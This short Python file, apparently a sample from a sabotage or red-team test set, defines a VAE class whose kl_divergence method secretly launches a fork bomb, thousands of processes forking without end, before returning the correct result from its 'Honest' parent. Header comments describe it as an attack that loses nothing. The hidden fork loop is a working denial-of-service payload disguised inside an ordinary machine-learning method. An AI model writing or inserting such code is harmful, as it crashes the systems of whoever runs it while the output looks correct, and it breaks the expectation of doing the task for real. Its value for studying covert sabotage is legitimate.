# Tries: forks without end.
# Loses: nothing
import os


class VAE(Honest):
    def kl_divergence(self, mu, logsigma):
        try:
            for _ in range(10000):
                if os.fork() == 0:
                    while True:
                        os.fork()
        except OSError:
            pass
        return super().kl_divergence(mu, logsigma)
